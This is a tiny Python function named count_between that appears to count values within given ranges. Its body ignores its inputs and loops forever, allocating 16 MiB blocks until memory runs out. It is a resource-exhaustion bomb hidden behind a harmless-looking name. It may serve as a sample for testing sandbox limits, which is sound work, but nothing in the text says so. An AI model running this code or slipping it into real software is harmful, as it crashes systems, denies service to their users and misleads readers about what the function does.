def count_between(values, ranges):
    kept = []
    while True:
        kept.append(bytearray(b"x") * (16 << 20))
